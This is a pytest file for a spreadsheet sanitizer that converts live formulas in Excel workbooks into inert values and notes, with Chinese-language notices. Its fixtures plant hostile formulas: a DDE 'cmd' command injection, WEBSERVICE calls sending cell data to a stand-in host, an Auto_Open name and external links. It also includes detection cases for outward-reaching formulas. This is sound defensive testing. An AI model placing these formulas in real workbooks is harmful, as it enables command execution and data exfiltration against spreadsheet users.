"""The annotated copy of a workbook that would run or fetch something: only what it shows is left of that."""

import io
import re
import zipfile

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.table import Table, TableFormula

from jybf.report.annotate import annotated
from jybf.report.inert import reaches
from tests.report.test_annotate import ROWS, found, report
from tests.roster.books import book, rezip

SHOWN = {  # cell → formula, what it showed when it was saved, its type
    "D7": ("SUM(D3:D6)", "3200", ""),
    "F3": ('WEBSERVICE("http://x.invalid/?"&amp;C3)', "已核", "str"),
    "F4": ("cmd|' /C calc'!A0", "#REF!", "e"),
    "F5": ('HYPERLINK("http://x.invalid/"&amp;C5,"点这里")', "=1+1", "str"),
    "F6": ("[1]Sheet1!$A$1", "1", "b"),
}


def hostile(tmp_path, fill=lambda _: None):
    """A workbook with SHOWN and whatever ``fill`` adds to it; D4 was never computed."""
    path = book(tmp_path, *ROWS)
    own = openpyxl.load_workbook(path)
    sheet = own.worksheets[0]
    for at in SHOWN:
        sheet[at] = f"=待{at}"
    sheet["D4"] = "=800*1"
    fill(own)
    own.save(path)
    with zipfile.ZipFile(path, "a") as archive:
        for part in ("xl/externalLinks/externalLink1.xml", "xl/connections.xml", "xl/queryTables/queryTable1.xml"):
            archive.writestr(part, b"<x/>")
    return rezip(path, lambda name, part: computed(part) if name == "xl/worksheets/sheet1.xml" else part)


def computed(part):
    text = part.decode()
    for at, (formula, value, kind) in SHOWN.items():
        cell = rf'<c r="{at}"([^>]*)><f>待{at}</f><v ?/></c>'
        told = f' t="{kind}"' if kind else ""
        text, count = re.subn(
            cell, lambda m, at=at, f=formula, v=value, t=told: f'<c r="{at}"{m[1]}{t}><f>{f}</f><v>{v}</v></c>', text
        )
        assert count == 1, at
    return text.encode()


def ties(own):
    """Whatever else in a workbook can look outside, beside one of its kind that does not."""
    sheet = own.worksheets[0]
    sheet["D7"].comment = Comment("已核", "会计")
    sheet["B3"].hyperlink, sheet["B4"].hyperlink = "file://x.invalid/a", "#Sheet1!A1"
    sheet["G3"] = ArrayFormula("G3:G4", "=WEBSERVICE(F3:F4)")
    for name, text in (
        ("外", "[1]Sheet1!$A$1"),
        ("内", "Sheet1!$A$1:$A$9"),
        ("调", "cmd|'/C calc'!A0"),
        ("_xlnm.Auto_Open", "Sheet1!$A$1"),
    ):
        own.defined_names[name] = DefinedName(name, attr_text=text)
    for at, text in (("H3", "[1]Sheet1!$A$1:$A$9"), ("H4", "OFFSET(内,0,0,3,1)")):
        sheet.add_data_validation(DataValidation("list", formula1=text, sqref=at))
    for text in ('WEBSERVICE("http://x.invalid/"&C3)=""', "LEN(C3)<>18"):
        sheet.conditional_formatting.add("C3:C6", FormulaRule([text]))
    for source in ("[1]", ""):
        chart = BarChart()
        chart.add_data(Reference(sheet, min_col=4, min_row=3, max_row=6))
        chart.series[0].val.numRef.f = f"'{source}Sheet1'!$D$3:$D$6"
        sheet.add_chart(chart, "J1")
    table = Table(displayName="花名册", ref="A2:D6", tableType="queryTable", connectionId=1)
    table._initialise_columns()
    for column, cell in zip(table.tableColumns, sheet[2], strict=False):
        column.name = cell.value
    table.tableColumns[3].calculatedColumnFormula = TableFormula(attr_text='WEBSERVICE("http://x.invalid")')
    sheet.add_table(table)


@pytest.fixture(scope="module")
def copied(tmp_path_factory):
    """The annotated copy of a workbook with SHOWN and ``ties``: the workbook, its parts, what was said of it."""
    out = io.BytesIO()
    path = hostile(tmp_path_factory.mktemp("live"), ties)
    notices = annotated(report([path], found(7, "D7", row=-1)), out, mask=False)
    with zipfile.ZipFile(out) as archive:
        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    return openpyxl.load_workbook(out), parts, notices


def test_every_formula_is_what_it_showed_and_its_text_is_in_a_note(copied):
    sheet = copied[0]["Sheet1"]
    assert [(sheet[at].value, sheet[at].data_type) for at in SHOWN] == [
        (3200, "n"), ("已核", "s"), ("#REF!", "e"), ("=1+1", "s"), (True, "b"),
    ]  # fmt: skip
    assert sheet["F5"].quotePrefix
    assert sheet["F4"].comment.text == "原来的公式：=cmd|' /C calc'!A0"
    assert (sheet["D4"].value, sheet["D4"].data_type, sheet["D4"].quotePrefix) == ("=800*1", "s", True)
    assert sheet["D4"].comment.text == "没有算过的公式，格里是它的文字：=800*1"


def test_the_formula_stands_below_what_the_user_and_we_have_noted(copied):
    note = copied[0]["Sheet1"]["D7"].comment.text
    assert re.sub(r"\n\n(?s:JY501.*?)\n\n", "|我们|", note) == "已核|我们|原来的公式：=SUM(D3:D6)"


def test_nothing_in_the_package_runs_or_reaches_outside(copied):
    parts = copied[1]
    inside = "".join(re.sub("<t[ >].*?</t>", "", text) for text in parts.values())  # all but words
    assert not [name for name, text in parts.items() if name.startswith("xl/worksheets") and re.search("<f[ >/]", text)]
    for sign in ("WEBSERVICE", "x.invalid", "[1]", "cmd|", "queryTable", "connectionId", "Auto_Open"):
        assert sign not in inside, sign
    assert not [name for name in parts if re.search("external|connection|query", name, re.IGNORECASE)]
    for sign in ("OFFSET(内,0,0,3,1)", "LEN(C3)", '"#Sheet1!A1"', "'Sheet1'!$D$3:$D$6", '"内"'):
        assert sign in inside, sign


def test_what_was_taken_away_is_said_once(copied):
    workbook, _, notices = copied
    lost = "、".join(
        (
            "外部数据连接",
            "外部链接",
            *(f"指向外面的{what}" for what in ("名称", "链接", "下拉选项", "条件格式")),
            "取自外面的图表",
        )
    )
    assert notices[0].endswith(f"：批注副本里没有{lost}，要用请看原件")
    assert sum("公式的文字在批注里" in notice for notice in notices) == 1
    assert sum("公式的文字在批注里" in str(cell.value) for cell in workbook["汇总"]["A"]) == 1


def test_past_the_most_notes_the_formulas_are_still_gone_and_that_is_said(tmp_path, monkeypatch):
    monkeypatch.setattr("jybf.report.annotate._MOST_NOTES", 2)
    out = io.BytesIO()
    notices = annotated(report([hostile(tmp_path)], found(3, "D3")), out, mask=False)
    assert notices[-1] == "公式太多，有 5 个的文字没有写进批注，请看原件"
    assert not any(c.data_type == "f" for s in openpyxl.load_workbook(out) for row in s.iter_rows() for c in row)


@pytest.mark.parametrize(
    "formula",
    [
        "[1]S!A1",
        "'C:\\b\\[甲.xlsx]表 1'!A1",
        "SUM([2]表!A:A)",
        "DDE|x!y",
        "RTD(1)",
        "_xlfn.IMAGE(A1)",
        '"http://x"&A1',
        "'\\\\h\\d'!A1",
    ],
)
def test_what_reaches_outside(formula):
    assert reaches(formula)


@pytest.mark.parametrize(
    "formula",
    ["Sheet1!$A$1", '"是,否"', "花名册[金额]", "SUM(花名册[[#All],[金额]],Sheet2!A1)", "_xlfn.IFERROR(A1,0)", 'B3<>"a|b"'],
)
def test_what_stays_at_home(formula):
    assert not reaches(formula)
